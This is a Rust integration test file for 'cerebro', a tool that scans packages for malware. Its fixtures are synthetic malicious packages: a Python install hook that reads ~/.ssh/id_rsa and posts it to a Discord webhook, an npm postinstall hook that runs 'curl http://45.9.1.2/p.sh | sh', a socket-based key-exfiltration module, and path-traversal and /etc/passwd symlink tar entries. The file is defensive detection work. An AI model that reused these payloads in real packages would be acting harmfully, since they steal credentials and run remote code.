//! End-to-end tests of `cerebro scan`: the real binary over synthetic packages built in a
//! temporary folder. The "malicious" code here is only ever parsed.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use flate2::write::GzEncoder;
use flate2::Compression;
use serde_json::Value;

/// A temporary folder to build packages in.
struct Dir(tempfile::TempDir);

impl Dir {
    fn new() -> Dir {
        Dir(tempfile::tempdir().expect("temp dir"))
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    /// Writes a gzipped tarball named `name` whose entries are `top/path` for each file.
    fn tarball(&self, name: &str, top: &str, files: &[(&str, &str)]) -> PathBuf {
        let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
        for (path, body) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(body.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            builder
                .append_data(&mut header, format!("{top}{path}"), body.as_bytes())
                .expect("append");
        }
        let bytes = builder
            .into_inner()
            .and_then(|gz| gz.finish())
            .expect("finish tarball");
        self.write(name, &bytes)
    }

    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.path().join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap();
        }
        std::fs::File::create(&path)
            .and_then(|mut f| f.write_all(bytes))
            .expect("write fixture");
        path
    }
}

fn cerebro(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cerebro"))
        .args(args)
        .env_remove("CLICOLOR_FORCE")
        .output()
        .expect("run cerebro")
}

fn json_lines(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON {l}: {e}")))
        .collect()
}

/// The sequence's tokens with rich qualifiers dropped (`R5.key` → `R5`): the features, in
/// run order ([`rich_tokens`] keeps them).
fn tokens(report: &Value) -> Vec<String> {
    rich_tokens(report)
        .into_iter()
        .map(|t| match t.split_once('.') {
            Some((feature, _)) if !t.starts_with('[') => feature.to_owned(),
            _ => t,
        })
        .collect()
}

/// The sequence's tokens as written, rich tokens included.
fn rich_tokens(report: &Value) -> Vec<String> {
    report["sequence"]
        .as_array()
        .expect("sequence")
        .iter()
        .map(|t| t.as_str().unwrap().to_owned())
        .collect()
}

/// The tokens of one phase, without its marker.
fn phase(tokens: &[String], marker: &str) -> Vec<String> {
    tokens
        .iter()
        .skip_while(|t| *t != marker)
        .skip(1)
        .take_while(|t| !t.starts_with('['))
        .cloned()
        .collect()
}

fn position(tokens: &[String], token: &str) -> usize {
    tokens
        .iter()
        .position(|t| t == token)
        .unwrap_or_else(|| panic!("{token} missing from {tokens:?}"))
}

const PKG_INFO: &str = "Metadata-Version: 2.1\nName: evil-helper\nVersion: 1.0.3\n\n";

const SETUP_PY: &str = r#"from setuptools import setup
from setuptools.command.install import install
from evilhelper.collect import gather

class PostInstall(install):
    def run(self):
        gather()
        install.run(self)

setup(name="evil-helper", version="1.0.3", cmdclass={"install": PostInstall})
"#;

const COLLECT_PY: &str = r#"import os
import requests

def gather():
    data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    ship(data)

def ship(data):
    requests.post("https://discord.com/api/webhooks/1/x", data=data)
"#;

const INIT_PY: &str = "import base64\nVALUE = base64.b64decode('aGk=')\n";

fn evil_sdist(dir: &Dir) -> PathBuf {
    dir.tarball(
        "evil-helper-1.0.3.tar.gz",
        "evil-helper-1.0.3/",
        &[
            ("PKG-INFO", PKG_INFO),
            ("setup.py", SETUP_PY),
            ("evilhelper/__init__.py", INIT_PY),
            ("evilhelper/collect.py", COLLECT_PY),
            ("README.md", "# nothing to see"),
        ],
    )
}

#[test]
fn python_install_hook_walks_into_package_functions_at_install_time() {
    let dir = Dir::new();
    let sdist = evil_sdist(&dir);
    let out = cerebro(&[
        "scan",
        "--json",
        "-q",
        "--no-model",
        sdist.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let reports = json_lines(&out);
    assert_eq!(reports.len(), 1);
    let r = &reports[0];
    assert_eq!(r["ecosystem"], "pypi");
    assert_eq!(r["name"], "evil-helper");
    assert_eq!(r["version"], "1.0.3");
    assert!(r["score"].is_null() && r["verdict"].is_null());

    let t = tokens(r);
    assert_eq!(t[0], "[INSTALL]");
    // The secret read is an SSH key: its rich token says so.
    assert!(rich_tokens(r).contains(&"R5.key".to_owned()), "{r}");
    let install = phase(&t, "[INSTALL]");
    // The hook, then what the hook's run() reaches through two package functions in another
    // module: the secret is read before it is sent, and the webhook is named.
    let (h1, r5, d2) = (
        position(&install, "H1"),
        position(&install, "R5"),
        position(&install, "D2"),
    );
    assert!(h1 < r5 && r5 < d2, "{install:?}");
    assert!(install.contains(&"D4".to_owned()), "{install:?}");
    // __init__.py runs at import time.
    let import = phase(&t, "[IMPORT]");
    assert!(import.contains(&"E2".to_owned()), "{t:?}");

    // Events name the file and line that showed them.
    let events = r["events"].as_array().unwrap();
    let post = events
        .iter()
        .find(|e| e["feature"] == "D2")
        .expect("a D2 event");
    assert_eq!(post["file"], "evilhelper/collect.py");
    assert_eq!(post["line"], 9);
    assert_eq!(post["phase"], "install");
}

const PACKAGE_JSON: &str = r#"{
  "name": "colors-helper",
  "version": "2.0.1",
  "main": "lib/index.js",
  "scripts": { "postinstall": "node scripts/setup.js", "test": "curl http://x.io | sh" }
}"#;

const SETUP_JS: &str = r#"const { exec } = require('child_process');
const os = require('os');
exec('curl -s http://45.9.1.2/p.sh | sh');
"#;

const INDEX_JS: &str =
    "const path = require('path');\nmodule.exports = (a) => path.join(a, 'x');\n";

#[test]
fn npm_postinstall_script_runs_at_install_time_and_main_at_import_time() {
    let dir = Dir::new();
    let tgz = dir.tarball(
        "colors-helper-2.0.1.tgz",
        "package/",
        &[
            ("package.json", PACKAGE_JSON),
            ("scripts/setup.js", SETUP_JS),
            ("lib/index.js", INDEX_JS),
        ],
    );
    let out = cerebro(&["scan", "--json", "-q", "--no-model", tgz.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let r = &json_lines(&out)[0];
    assert_eq!(r["ecosystem"], "npm");
    assert_eq!(r["name"], "colors-helper");
    let t = tokens(r);
    let install = phase(&t, "[INSTALL]");
    assert_eq!(install[0], "H1", "{t:?}");
    for f in ["P1", "R1", "P3", "D3", "P2"] {
        assert!(
            install.contains(&f.to_owned()),
            "{f} not at install time: {t:?}"
        );
    }
    // The `test` script is not run by an install, so its shell must not show up.
    let import = phase(&t, "[IMPORT]");
    assert!(import.contains(&"R3".to_owned()), "{t:?}");
    assert!(!import.contains(&"P3".to_owned()), "{t:?}");
}

#[test]
fn a_folder_is_scanned_whole_in_order_and_unreadable_archives_do_not_stop_it() {
    let dir = Dir::new();
    evil_sdist(&dir);
    dir.write(
        "b-broken-1.0.tar.gz",
        b"\x1f\x8b\x08\x00 this is not really gzip",
    );
    dir.tarball(
        "c-clean-0.1.tgz",
        "package/",
        &[
            ("package.json", r#"{"name":"c-clean","version":"0.1.0"}"#),
            ("index.js", "module.exports = 1;\n"),
        ],
    );
    dir.write("notes.txt", b"not a package, not picked up");
    let out = cerebro(&[
        "scan",
        "--json",
        "-q",
        "--no-model",
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1), "an unreadable archive exits 1");
    let reports = json_lines(&out);
    assert_eq!(reports.len(), 3, "one line per archive: {reports:?}");
    assert!(reports[0]["path"]
        .as_str()
        .unwrap()
        .ends_with("b-broken-1.0.tar.gz"));
    let error = reports[0]["error"].as_str().expect("an error field");
    assert!(error.contains("b-broken-1.0.tar.gz"), "{error}");
    assert_eq!(reports[1]["name"], "c-clean");
    assert_eq!(reports[2]["name"], "evil-helper");
}

#[test]
fn human_output_shows_identity_phases_and_strongest_behaviours_without_colour_in_a_pipe() {
    let dir = Dir::new();
    let sdist = evil_sdist(&dir);
    let out = cerebro(&["scan", "--no-model", sdist.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(!text.contains('\x1b'), "no colour codes in a pipe: {text}");
    assert!(text.starts_with("pypi evil-helper 1.0.3"), "{text}");
    assert!(text.contains("  install "), "{text}");
    assert!(text.contains("strongest behaviours:"), "{text}");
    assert!(text.contains("evilhelper/collect.py:9"), "{text}");
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("Scanned 1 package in"), "{err}");
}

#[test]
fn colour_can_be_forced() {
    let dir = Dir::new();
    let sdist = evil_sdist(&dir);
    let out = cerebro(&["scan", "--color", "always", sdist.to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&out.stdout).contains('\x1b'));
}

#[test]
fn a_missing_path_is_reported_in_place_and_exits_1() {
    let out = cerebro(&["scan", "--json", "-q", "/nonexistent/cerebro-test.tar.gz"]);
    assert_eq!(out.status.code(), Some(1));
    let r = &json_lines(&out)[0];
    assert!(r["error"].as_str().unwrap().contains("cerebro-test.tar.gz"));
    let human = cerebro(&["scan", "-q", "/nonexistent/cerebro-test.tar.gz"]);
    let text = String::from_utf8(human.stdout).unwrap();
    assert_eq!(text.lines().count(), 1, "one readable line: {text}");
    assert!(text.starts_with("error: "), "{text}");
}

#[test]
fn hostile_archive_entries_are_reported_not_followed() {
    let dir = Dir::new();
    // A tar whose entry climbs out of the package, written with a raw header name since tar
    // builders refuse `..`.
    let mut header = tar::Header::new_gnu();
    let body = b"import os\nos.system('id')\n";
    {
        let name = b"pkg-1.0/../../escape.py";
        let gnu = header.as_gnu_mut().unwrap();
        gnu.name[..name.len()].copy_from_slice(name);
    }
    header.set_size(body.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    builder.append(&header, &body[..]).unwrap();
    let mut link = tar::Header::new_gnu();
    link.set_entry_type(tar::EntryType::Symlink);
    link.set_size(0);
    link.set_cksum();
    builder
        .append_link(&mut link, "pkg-1.0/evil.py", "/etc/passwd")
        .unwrap();
    let mut ok = tar::Header::new_gnu();
    ok.set_size(9);
    ok.set_mode(0o644);
    ok.set_cksum();
    builder
        .append_data(&mut ok, "pkg-1.0/setup.py", &b"import os"[..])
        .unwrap();
    let bytes = builder.into_inner().unwrap().finish().unwrap();
    let path = dir.write("pkg-1.0.tar.gz", &bytes);

    let out = cerebro(&["scan", "--json", "-q", "--no-model", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let r = &json_lines(&out)[0];
    let kinds: Vec<&str> = r["anomalies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    assert!(kinds.contains(&"path-traversal"), "{r}");
    assert!(kinds.contains(&"symlink"), "{r}");
    let t = tokens(r);
    assert_eq!(&t[..2], ["[INSTALL]", "A1"], "{t:?}");
    // The escaping file was never read, so its os.system call is not in the sequence.
    assert!(!t.contains(&"P2".to_owned()), "{t:?}");
}

#[test]
fn help_teaches_exit_codes_and_usage_errors_exit_2() {
    let out = cerebro(&["scan", "--help"]);
    let help = String::from_utf8(out.stdout).unwrap();
    assert!(help.contains("Exit codes"), "{help}");
    assert!(help.contains("--json"), "{help}");
    assert_eq!(cerebro(&["scan"]).status.code(), Some(2));
    assert_eq!(cerebro(&["frobnicate"]).status.code(), Some(2));
}

#[test]
fn a_project_folder_is_one_package() {
    let dir = Dir::new();
    dir.write("proj/setup.py", SETUP_PY.as_bytes());
    dir.write("proj/evilhelper/collect.py", COLLECT_PY.as_bytes());
    let out = cerebro(&[
        "scan",
        "--json",
        "-q",
        "--no-model",
        dir.path().join("proj").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let reports = json_lines(&out);
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0]["ecosystem"], "pypi");
    assert_eq!(reports[0]["kind"], "directory");
    assert!(phase(&tokens(&reports[0]), "[INSTALL]").contains(&"D2".to_owned()));
}

#[test]
fn the_embedded_model_flags_the_malicious_fixture_with_reasons_and_passes_the_clean_one() {
    let dir = Dir::new();
    let sdist = evil_sdist(&dir);
    let clean = dir.tarball(
        "c-clean-0.1.tgz",
        "package/",
        &[
            ("package.json", r#"{"name":"c-clean","version":"0.1.0"}"#),
            (
                "index.js",
                "const path = require('path');\nmodule.exports = (a) => path.join(a, 'b');\n",
            ),
        ],
    );
    let out = cerebro(&["scan", "--json", "-q", sdist.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "malicious exits 3: {out:?}");
    let r = &json_lines(&out)[0];
    assert_eq!(r["verdict"], "malicious", "{r}");
    let score = r["score"].as_f64().unwrap();
    assert!(score > 0.5 && score <= 1.0, "{score}");
    let reasons = r["reasons"]
        .as_array()
        .expect("reasons for a flagged package");
    assert!(!reasons.is_empty() && reasons.len() <= 3, "{reasons:?}");
    for reason in reasons {
        assert!(reason["weight"].as_f64().unwrap() > 0.0);
        assert!(reason["event"]["file"].is_string(), "{reason}");
    }

    let out = cerebro(&["scan", "--json", "-q", clean.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let r = &json_lines(&out)[0];
    assert_eq!(r["verdict"], "benign", "{r}");
    assert!(
        r.get("reasons").is_none(),
        "benign packages carry no reasons: {r}"
    );

    // People see the verdict and its reasons with file:line.
    let out = cerebro(&["scan", sdist.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("verdict  malicious (score "), "{text}");
    assert!(text.contains("because "), "{text}");
}

/// A payload of a few lines in one module of a library of thirty ordinary ones, run when
/// the library is imported: the needle in the haystack.
const NEEDLE_PY: &str = r#"import os, socket, base64, subprocess

def sync():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    s = socket.create_connection(("127.0.0.1", 9))
    s.send(base64.b64encode(key.encode()))
    subprocess.Popen(["sh", "-c", "curl http://127.0.0.1:9/x | sh"])
"#;

#[test]
fn a_payload_in_one_module_of_a_library_is_judged_on_its_own_and_named() {
    let dir = Dir::new();
    let ordinary: Vec<(String, String)> = (1..=30)
        .map(|i| {
            (
                format!("pkg/mod{i}.py"),
                format!(
                    "import os\nimport json\n\ndef load_{i}(path):\n    with open(path) as f:\n        \
                     return json.load(f)\n\ndef save_{i}(path, data):\n    \
                     os.makedirs(os.path.dirname(path), exist_ok=True)\n    \
                     with open(path, \"w\") as f:\n        json.dump(data, f)\n"
                ),
            )
        })
        .collect();
    let build = |name: &str, init: &str, more: &[(&str, &str)]| {
        let mut files: Vec<(&str, &str)> = vec![
            ("PKG-INFO", "Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n\n"),
            (
                "setup.py",
                "from setuptools import setup\nsetup(name=\"lib\", version=\"1.0\", packages=[\"pkg\"])\n",
            ),
            ("pkg/__init__.py", init),
        ];
        files.extend(ordinary.iter().map(|(p, b)| (p.as_str(), b.as_str())));
        files.extend(more);
        dir.tarball(name, "lib-1.0/", &files)
    };
    let clean = build("lib-clean-1.0.tar.gz", "from . import mod1\n", &[]);
    let needle = build(
        "lib-1.0.tar.gz",
        "from . import mod1\nfrom . import telemetry\ntelemetry.sync()\n",
        &[("pkg/telemetry.py", NEEDLE_PY)],
    );

    let out = cerebro(&["scan", "--json", "-q", clean.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let out = cerebro(&["scan", "--json", "-q", needle.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let r = &json_lines(&out)[0];
    assert_eq!(r["verdict"], "malicious", "{r}");
    // The library as a whole scores low; its one bad module decides, and is named.
    let threshold = r["unit"]["threshold"].as_f64().unwrap();
    assert!(r["score"].as_f64().unwrap() < 0.5, "{r}");
    assert_eq!(r["unit"]["file"], "pkg/telemetry.py", "{r}");
    assert_eq!(r["unit"]["drives"], true, "{r}");
    assert!(r["unit"]["score"].as_f64().unwrap() >= threshold, "{r}");
    let reasons = r["reasons"].as_array().expect("reasons");
    assert!(
        reasons
            .iter()
            .all(|x| x["event"]["file"] == "pkg/telemetry.py"),
        "the reasons are the unit's: {r}"
    );
}

// ---------------------------------------------------------------------------------------------
// `cerebro scan --against OLD NEW`: what a release changed since the one before it.
// ---------------------------------------------------------------------------------------------

const LIB_INDEX_JS: &str = "'use strict';
const util = require('./lib/util');
module.exports = { pad: util.pad, readConfig: util.readConfig };
";

const LIB_UTIL_JS: &str = include_str!("fixtures/tiny-lib/util.js");

/// An ordinary update: a comment, a new option, a new pure helper, lines moved.
const LIB_UTIL_JS_UPDATED: &str = include_str!("fixtures/tiny-lib/util-updated.js");

/// `readConfig` also reads the user's npm token and posts it (to a closed loopback port).
const LIB_UTIL_JS_COMPROMISED: &str = include_str!("fixtures/tiny-lib/util-compromised.js");

/// `tiny-lib` at `version` as an npm tarball, with `util` as `lib/util.js`, `extra` added to
/// its manifest and `more` files.
fn tiny_lib(dir: &Dir, version: &str, util: &str, extra: &str, more: &[(&str, &str)]) -> PathBuf {
    let manifest =
        format!(r#"{{"name": "tiny-lib", "version": "{version}", "main": "index.js"{extra}}}"#);
    let mut files = vec![
        ("package.json", manifest.as_str()),
        ("index.js", LIB_INDEX_JS),
        ("lib/util.js", util),
    ];
    files.extend_from_slice(more);
    dir.tarball(&format!("tiny-lib-{version}.tgz"), "package/", &files)
}

#[test]
fn scan_against_an_ordinary_update_flags_nothing() {
    let dir = Dir::new();
    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
    let new = tiny_lib(&dir, "1.0.1", LIB_UTIL_JS_UPDATED, "", &[]);
    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
    let out = cerebro(&["scan", "--json", "--against", old, new]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let reports = json_lines(&out);
    assert_eq!(reports.len(), 1);
    let changes = &reports[0]["changes"];
    assert_eq!(changes["from"], "1.0.0");
    assert_eq!(changes["to"], "1.0.1");
    assert_eq!(changes["bump"], "patch");
    assert_eq!(changes["verdict"], "benign");
    assert_eq!(changes["units"], serde_json::json!([]));
    assert_eq!(changes["judged"], true);
    let out = cerebro(&["scan", "--against", old, new]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("no new behaviour in 1.0.1 since 1.0.0"),
        "{text}"
    );
}

#[test]
fn scan_against_a_payload_in_one_function_exits_3_and_names_file_and_line() {
    let dir = Dir::new();
    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
    let new = tiny_lib(&dir, "1.0.1", LIB_UTIL_JS_COMPROMISED, "", &[]);
    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
    let out = cerebro(&["scan", "--json", "--against", old, new]);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let changes = &json_lines(&out)[0]["changes"];
    assert_eq!(changes["verdict"], "malicious", "{changes:#}");
    let units = changes["units"].as_array().unwrap();
    assert_eq!(units.len(), 1, "{changes:#}");
    assert_eq!(units[0]["file"], "lib/util.js");
    assert_eq!(units[0]["status"], "changed");
    assert_eq!(units[0]["malicious"], true);
    let line = units[0]["line"].as_u64().unwrap();
    // The first added behaviour is inside `readConfig` (lines 9 to 19), not at the top.
    assert!((10..=19).contains(&line), "line {line}");
    let features: Vec<&str> = units[0]["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap())
        .collect();
    assert!(
        features.contains(&"R5") && features.contains(&"D2"),
        "{features:?}"
    );

    let out = cerebro(&["scan", "--against", old, new]);
    assert_eq!(out.status.code(), Some(3));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("new in 1.0.1 since 1.0.0:"), "{text}");
    assert!(text.contains(&format!("lib/util.js:{line} ")), "{text}");
    assert!(text.contains("malicious"), "{text}");
    assert!(!text.contains('\u{1b}'), "no colour in a pipe: {text}");
}

#[test]
fn scan_against_reports_an_added_postinstall_hook() {
    let dir = Dir::new();
    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
    let new = tiny_lib(
        &dir,
        "1.0.1",
        LIB_UTIL_JS,
        r#", "scripts": {"postinstall": "node scripts/setup.js"}"#,
        &[(
            "scripts/setup.js",
            "'use strict';\nconsole.log('thanks for installing');\n",
        )],
    );
    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
    let out = cerebro(&["scan", "--json", "--against", old, new]);
    // A hook is new install-time behaviour of `package.json`, judged like any added
    // behaviour: the model scores a lone new hook over the line (README, release diff).
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let changes = &json_lines(&out)[0]["changes"];
    assert_eq!(changes["verdict"], "malicious", "{changes:#}");
    assert_eq!(changes["units"][0]["file"], "package.json", "{changes:#}");
    assert_eq!(changes["hooks"][0]["name"], "postinstall");
    assert_eq!(changes["hooks"][0]["command"], "node scripts/setup.js");
    assert_eq!(changes["hooks"][0]["runs"][0], "scripts/setup.js");
    let out = cerebro(&["scan", "--against", old, new]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("install hook postinstall: `node scripts/setup.js`"),
        "{text}"
    );
}

#[test]
fn scan_against_refuses_two_different_packages_and_more_than_one_path() {
    let dir = Dir::new();
    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
    let other = dir.tarball(
        "other-1.0.0.tgz",
        "package/",
        &[("package.json", r#"{"name": "other", "version": "1.0.0"}"#)],
    );
    let (old, other) = (old.to_str().unwrap(), other.to_str().unwrap());
    let out = cerebro(&["scan", "--against", old, other]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("two releases of one package"), "{err}");
    let out = cerebro(&["scan", "--against", old, old, other]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let missing = dir.path().join("missing.tgz");
    let out = cerebro(&["scan", "--against", missing.to_str().unwrap(), old]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("missing.tgz"));
}

// ---------------------------------------------------------------------------------------------
// Snapshots of what people read (`tests/snapshots/`; `cargo insta review` after a change).
// ---------------------------------------------------------------------------------------------

/// Stdout of a run, the temporary folder written as `[DIR]`.
fn shown(out: &Output, dir: &Dir) -> String {
    String::from_utf8_lossy(&out.stdout).replace(&dir.path().display().to_string(), "[DIR]")
}

#[test]
fn snapshot_scan_report_of_a_malicious_sdist() {
    let dir = Dir::new();
    let sdist = evil_sdist(&dir);
    let out = cerebro(&["scan", sdist.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3));
    insta::assert_snapshot!(shown(&out, &dir));
}

#[test]
fn snapshot_scan_report_without_the_model() {
    let dir = Dir::new();
    let sdist = evil_sdist(&dir);
    let out = cerebro(&["scan", "--no-model", sdist.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0));
    insta::assert_snapshot!(shown(&out, &dir));
}

#[test]
fn snapshot_help() {
    for (name, args) in [
        ("help", &["--help"][..]),
        ("scan_help", &["scan", "--help"][..]),
        ("audit_help", &["audit", "--help"][..]),
        ("pip_help", &["pip", "--help"][..]),
        ("setup_help", &["setup", "--help"][..]),
    ] {
        let out = cerebro(args);
        assert_eq!(out.status.code(), Some(0), "{name}");
        insta::assert_snapshot!(name, String::from_utf8_lossy(&out.stdout));
    }
}

#[test]
fn cache_info_shows_and_clean_trims_the_least_recently_used_downloads() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("cache");
    let config = dir.path().join("config");
    std::fs::create_dir_all(&config).unwrap();
    // Three cached downloads of 1,000 bytes, used 300, 200 and 100 seconds ago.
    let mut paths = Vec::new();
    for (i, age) in [(1u8, 300u64), (2, 200), (3, 100)] {
        let sha = format!("{:02x}{}", i, "0".repeat(62));
        let path = root.join("artifacts-v1/sha256").join(&sha[..2]).join(&sha);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, vec![i; 1000]).unwrap();
        let then = std::time::SystemTime::now() - std::time::Duration::from_secs(age);
        std::fs::File::options()
            .append(true)
            .open(&path)
            .unwrap()
            .set_times(
                std::fs::FileTimes::new()
                    .set_accessed(then)
                    .set_modified(then),
            )
            .unwrap();
        paths.push(path);
    }
    let run = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_cerebro"))
            .args(args)
            .env("CEREBRO_CACHE_DIR", &root)
            .env("CEREBRO_CONFIG_DIR", &config)
            .env_remove("CEREBRO_CACHE_MAX_SIZE")
            .output()
            .unwrap()
    };
    let out = run(&["cache", "info", "--json"]);
    assert!(out.status.success(), "{out:?}");
    let info: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(info["buckets"]["artifacts-v1"]["files"], 3, "{info}");
    assert_eq!(info["bytes"], 3000, "{info}");
    assert_eq!(info["max_size"], 10u64 << 30, "{info}");

    let out = run(&["cache", "clean", "--max-size", "2100"]);
    assert!(out.status.success(), "{out:?}");
    assert!(!paths[0].exists(), "the least recently used goes first");
    assert!(paths[1].exists() && paths[2].exists());
    let out = run(&["cache", "clean", "--max-size", "lots"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--max-size"));

    let out = run(&["cache", "clean"]);
    assert!(out.status.success(), "{out:?}");
    assert!(!root.join("artifacts-v1").exists());
    assert!(String::from_utf8_lossy(&out.stderr).contains("Cleaned"));
}
